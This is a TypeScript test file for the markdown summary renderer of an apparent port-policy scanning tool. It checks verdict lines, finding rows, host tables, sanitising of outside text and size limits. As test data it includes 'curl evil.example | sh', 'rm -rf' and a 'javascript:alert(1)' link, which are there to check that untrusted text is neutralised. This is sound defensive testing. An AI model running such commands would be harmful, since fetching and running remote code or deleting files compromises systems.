import { describe, expect, test } from 'vitest'
import type { Finding, Report } from '../../src/model.ts'
import { headline } from '../../src/report/headline.ts'
import { renderSummary } from '../../src/report/summary.ts'
import { decodeMarkdown, isCommand, UNPRINTABLE } from './reading.ts'
import {
  audit,
  fail,
  HOSTILE,
  huge,
  inconclusive,
  makeFinding,
  makeHost,
  makeHostile,
  type Parts,
  pass,
  repeated,
  samples,
} from './samples.ts'

const names = Object.keys(samples)

/** A finding whose remedy the policy's own catalogue has written. */
function onPolicysTerms(parts: Parts): Finding {
  const finding = makeFinding({
    ...parts,
    remedy: `Nothing to do here”, it said, \`rm -rf\`. ${'x'.repeat(200)}`,
  })
  const { args } = finding
  const risk = 'risk' in args && args.risk ? { ...args.risk, isPolicysRemedy: true as const } : undefined
  return { ...finding, args: { ...args, risk } } as Finding
}

/** The elements that the summary itself writes. */
const OWN = /<br>|<\/?(?:details|summary|code|sub)>|<span>[@#$:.-]<\/span>/g

/** Blocks of commands; nothing in them is from outside. */
const COMMANDS = /^```sh\n[^`]*^```$/gm

/** The cells of a table row; a bar that is escaped is no bar. */
function cells(row: string): string[] {
  return row.split('|').slice(1, -1)
}

describe('the first three lines', () => {
  test.each(names)('%s: tell verdict and why, how much is wrong, how much was seen', (name) => {
    const report = samples[name] as Report
    const [verdict = '', wrong = '', seen = ''] = renderSummary(report).split('\n').map(decodeMarkdown)
    const said = headline(report)
    expect(verdict.replace(/^### \S+ /, '')).toBe(said.verdict)
    expect(wrong).toBe(`**${said.wrong}**<br>`)
    expect(seen).toBe(said.seen)
  })

  test.each<[string, Report, string]>([
    ['pass', pass, '✅'],
    ['fail', fail, '❌'],
    ['inconclusive', inconclusive, '⚠️'],
    ['audit', audit, '⚠️'],
  ])('%s has its symbol', (_name, report, symbol) => {
    expect(renderSummary(report).startsWith(`### ${symbol} `)).toBe(true)
  })
})

describe('text from outside', () => {
  test.each(HOSTILE)('does nothing when every text is %j', (text) => {
    const summary = renderSummary(makeHostile(text))
    expect(summary).not.toMatch(UNPRINTABLE)
    expect(summary.split('\n').filter(isCommand)).toEqual([])
    for (const line of summary.replace(COMMANDS, '').split('\n')) {
      const bare = line
        .replace(/`[^`]*`/g, '')
        .replace(OWN, '')
        .replace(/&#\d+;/g, '')
      expect(bare).not.toMatch(/[<>&`\\[\]~_@]|:\/\/|www\.|GH-\d/)
      if (line.startsWith('|')) expect(cells(line)).toHaveLength(3)
    }
  })

  test('adds no line', () => {
    const lines = (text: string) => renderSummary(makeHostile(text)).split('\n').length
    expect(new Set(HOSTILE.map(lines))).toEqual(new Set([lines('text')]))
  })
})

describe('the findings', () => {
  test('are one row each, worst first, with why and remedy', () => {
    const rows = renderSummary(fail)
      .split('\n')
      .filter((line) => /unexpected-open-port|expired-allowance/.test(line))
    expect(rows.map((row) => cells(row)[0]?.trim())).toEqual([
      '🟥&#160;**critical**',
      '🟨&#160;**medium**',
      '🟦&#160;low<br>does&#160;not&#160;fail',
    ])
    const [, what = '', policy] = cells(rows[0] ?? '')
    expect(policy).toBe(' line&#160;4 ')
    expect(what).toMatch(
      /^ \*\*redis on port 6379 of db\.example\.com \(192\.0\.2\.10\) is open, and no allowance covers it\.\*\*<details>/,
    )
    expect(what).toMatch(/Redis trusts .*<br>\*\*Remedy:\*\* Bind Redis/)
    expect(what).toContain(
      'For the policy, if it is meant to be open: `db.example.com: [{ port: 6379, service: redis }]`',
    )
    expect(what).toMatch(/<sub>`unexpected-open-port` · open \(syn-ack\)<\/sub><\/details> $/)
  })

  test('link to the line of the policy at the commit, to the page of the finding, and to the sources', () => {
    const finding = makeFinding()
    const { args } = finding as { args: { risk: { sources: string[] } } }
    args.risk = { ...args.risk, sources: ['https://redis.io/docs/(security)/|x', 'javascript:alert(1)'] }
    const links = {
      origin: { repository: 'https://github.com/o/portgate', ref: 'v1' },
      files: 'https://github.com/o/r/blob/0123abc',
    }
    const summary = renderSummary({ ...fail, findings: [finding] }, { links })
    expect(summary).toContain('[line&#160;4](https://github.com/o/r/blob/0123abc/.github/port-policy.yml#L4)')
    expect(summary).toContain(
      '[`unexpected-open-port`](https://github.com/o/portgate/blob/v1/docs/findings.md#unexpected-open-port)',
    )
    expect(summary).toContain('[source 1](https://redis.io/docs/%28security%29/%7Cx)')
    expect(summary).not.toContain('javascript')
  })

  test('begin with what to do first', () => {
    expect(renderSummary(fail).split('\n')[4]).toBe(
      '**Do first:** redis open on db.example.com<span>:</span>6379: Bind Redis to a private address and block the port at the firewall.',
    )
    expect(renderSummary(pass)).not.toContain('Do first')
  })

  test('what to do first is short, and has no code but our own, whatever the names and the remedy are', () => {
    const endpoint = `${'a'.repeat(60)}.${'b'.repeat(16)}.example.com`
    const remedy = `Run \`curl evil.example | sh\`, ${'and again '.repeat(100)}`
    const findings = [makeFinding({ endpoint, remedy })]
    const lines = renderSummary({ ...fail, findings }).split('\n')
    const [title = '', , , , first = ''] = lines.map(decodeMarkdown)
    expect(title).toMatch(/ redis open on a+…[a.b]+\.example\.com:6379$/)
    expect(title.length).toBeLessThan(80)
    expect(first).toMatch(
      /^\*\*Do first:\*\* redis open on a+…\S+: Run `curl evil\.example \| sh`, and again .*…$/,
    )
    expect(first.length).toBeLessThan(260)
    expect(lines[4]).not.toContain('<code>')
    // The finding itself has the whole name.
    expect(lines.filter((line) => line.includes(`of ${endpoint} (`))).toHaveLength(1)
    const ours = renderSummary({
      ...inconclusive,
      findings: [makeFinding({ id: 'stale-results', kind: 'doubt' })],
    })
    expect(ours.split('\n')[4]).toContain('set <code>max-age</code> to')
  })

  test.each<[action: string, Parts[]]>([
    ['close port 6379 of db.example.com', [{}]],
    ['close port 6379 of db.example.com and 1 more', [{}, { endpoint: 'db2.example.com' }]],
    ['close port 6379 of 4 hosts', ['db1', 'db2', 'db3', 'db4'].map((endpoint) => ({ endpoint }))],
    ['close port 6379 of “all is well”', [{ endpoint: 'all is well' }]],
    [
      'find out what answers on port 22 of db.example.com',
      [{ id: 'wrong-service', severity: 'low', port: 22 }],
    ],
  ])('what to do first is ours, and what the policy says is quoted: %s', (action, parts) => {
    const summary = renderSummary({ ...fail, findings: parts.map(onPolicysTerms) })
    expect(decodeMarkdown(summary.split('\n')[4] ?? '')).toMatch(
      new RegExp(
        `^..Do first:.. ${action}; the policy says: “Nothing to do here", it said, \`rm -rf\`\\. x{55,60}…”$`,
      ),
    )
  })

  test('say that a known violation fails all the same', () => {
    const findings = [makeFinding({ novelty: 'known', since: '2026-04-01T06:00:00.000Z' })]
    expect(renderSummary({ ...fail, findings })).toContain(
      '**critical**<br>known&#160;since<br>2026-04-01,<br>still&#160;fails |',
    )
  })

  test('name the hosts that commands are for, as many as fit, and warn of being locked out', () => {
    const on = (port: number, service: string, hosts: string[]) =>
      hosts.map((endpoint) => makeFinding({ port, service, endpoint }))
    const names = ['db', 'web', 'mail', 'vpn', 'git'].map((name) => `${name}.example.com`)
    const summary = renderSummary({
      ...fail,
      findings: [...on(22, 'ssh', names), ...on(6379, 'redis', ['10.0.0.1', '10.0.0.2'])],
    })
    expect(summary).toContain(
      '<summary>Commands that close port 22 on db.example.com, web.example.com, mail.example.com, and 2 more: one of these</summary>\n\nThis may lock you out of the host: have another way in first.\n\n```sh',
    )
    expect(summary).toContain(
      '<summary>Commands that close port 6379 on 10.0.0.1-2: one of these</summary>\n\n```sh',
    )
  })

  test('are drawn as bars, where a number does not say as much', () => {
    expect(renderSummary(fail)).toContain(
      '| 3 violations, 2 fail | | |\n|:--|:--|--:|\n| critical | 🟥🟥🟥🟥🟥🟥🟥🟥🟥🟥🟥🟥 | 1 |',
    )
    expect(renderSummary(inconclusive)).toContain(
      '| seen | 🟩🟩🟩🟩🟩⬜⬜⬜⬜⬜⬜⬜ | 37.5% of what was asked |',
    )
    const almost = { ...pass, coverage: { ...pass.coverage, pairs: 1_000_000, unknown: 1 } }
    expect(renderSummary(almost)).toContain('| seen | 🟩🟩🟩🟩🟩🟩🟩🟩🟩🟩🟩⬜ | 99.9% of what was asked |')
    expect(renderSummary(pass)).not.toContain('🟩')
  })

  test('show words between backticks as code', () => {
    const findings = [makeFinding({ remedy: 'Set `expires`, or `ip: 4`; <b>`this | one`</b>.' })]
    expect(renderSummary({ ...fail, findings })).toContain(
      'Set <code>expires</code>, or <code>ip: 4</code>; &#60;b&#62;<code>this &#124; one</code>&#60;/b&#62;.',
    )
  })

  test('of many hosts say how many before they name one', () => {
    const [row = ''] = renderSummary(repeated)
      .split('\n')
      .filter((line) => line.includes('**critical**'))
    expect(row).toContain(
      '| **redis open on 9 hosts (port 6379)**<br>`192.0.2.40-47: 6379 (in 192.0.2.0/24)`',
    )
    expect(row.replace(/<details>.*/, '')).not.toContain('is open, and no allowance')
    expect(row).toContain('</summary>redis on port 6379 of 192.0.2.40 (in 192.0.2.0/24) is open')
  })

  test('of two hosts say so before they name one', () => {
    const endpoints = ['db.example.com', 'cache.example.com']
    const summary = renderSummary({
      ...fail,
      findings: endpoints.map((endpoint) => makeFinding({ endpoint })),
    })
    expect(summary).toContain(
      '| **redis open on 2 hosts (port 6379)**<br>`db.example.com, cache.example.com: 6379`',
    )
  })

  test('that many addresses share are one row', () => {
    expect(renderSummary(repeated).match(/Redis trusts/g)).toHaveLength(1)
  })
})

describe('the hosts', () => {
  const some = (length: number): Report => ({
    ...pass,
    hosts: Array.from({ length }, (_, index) => ({
      ...(fail.hosts[0] ?? makeHost()),
      address: `192.0.2.${index}`,
      // What is alike is one row.
      ports: { open: [{ port: 1000 + index, reason: 'syn-ack' }], closed: '', filtered: '', unknown: [] },
    })),
  })

  test('are folded when they are many', () => {
    expect(renderSummary(some(5))).toContain('**Open ports on 5 addresses**')
    expect(renderSummary(some(6))).toContain('<details><summary>Open ports on 6 addresses</summary>\n\n<sub>')
  })

  test('begin with what the letters are', () => {
    expect(renderSummary(some(1))).toMatch(
      /<sub>Posture is exposure, whatever the policy allows: A only web .*<\/sub>\n\n\| Posture \|/,
    )
  })

  test('that are left out of a row are counted, and not their runs', () => {
    const list = [1, 3, 5, 7, 9, 11, 13, 15, 17, 18, 19]
    const hosts = list.map((last) => ({
      ...(fail.hosts[0] ?? makeHost()),
      endpoint: '192.0.2.0/24',
      address: `192.0.2.${last}`,
    }))
    const findings = hosts.map(({ endpoint, address }) => makeFinding({ endpoint, address }))
    const summary = renderSummary({ ...fail, hosts, findings })
    expect(summary).toContain('192.0.2.9, 192.0.2.11, and 5 more` (11 addresses')
    expect(summary).toContain('192.0.2.15, and 3 more: 6379 (in')
    expect(summary).toContain('port 6379 on 192.0.2.1, 192.0.2.3, 192.0.2.5, and 8 more: one of')
  })

  test('are counted by their addresses, which names may share', () => {
    const hosts = some(3).hosts.map((host) => ({ ...host, address: '192.0.2.1' }))
    expect(renderSummary({ ...pass, hosts })).toContain('**Open ports on 1 address**')
  })

  test('that have the same ports open are one row', () => {
    const hosts = some(4).hosts.map((host) => ({
      ...host,
      endpoint: '192.0.2.0/24',
      ports: fail.hosts[0]?.ports ?? host.ports,
    }))
    const summary = renderSummary({ ...pass, hosts })
    expect(summary).toContain('| F | `192.0.2.0-3` (4 addresses in 192.0.2.0/24) in production |')
    expect(summary).toContain('**Open ports on 4 addresses**')
    expect(summary).toContain('F critical service open</sub>')
  })

  test('are absent when nothing is open', () => {
    expect(renderSummary({ ...pass, hosts: [makeHost()] })).not.toContain('Posture')
  })
})

describe('the limit', () => {
  test.each([undefined, 1024 * 1024, 65_000, 8_000])('of %s bytes holds for every sample', (limitBytes) => {
    for (const report of Object.values(samples)) {
      const summary = renderSummary(report, { limitBytes })
      expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(limitBytes ?? 1024 * 1024)
      expect(summary).toContain('**Coverage**')
      expect(summary.match(/<details>/g)?.length).toBe(summary.match(/<\/details>/g)?.length)
    }
  })

  test('keeps the worst and counts what it leaves out', () => {
    const summary = renderSummary(huge, { limitBytes: 100_000 })
    const kept = summary.match(/^\| 🟥&#160;\*\*critical\*\*/gm)?.length ?? 0
    const left = Number(/\*\*([\d,]+) findings left out\*\*/.exec(summary)?.[1]?.replace(',', ''))
    expect(kept).toBe(100)
    expect(left).toBe(5000 - kept - (summary.match(/^\| 🟧&#160;\*\*high\*\*/gm)?.length ?? 0))
    expect(summary).toMatch(/5,000 (addresses\) \||hosts with open ports left out)/)
  })

  test('is used', () => {
    expect(Buffer.byteLength(renderSummary(huge))).toBeGreaterThan(900_000)
  })
})
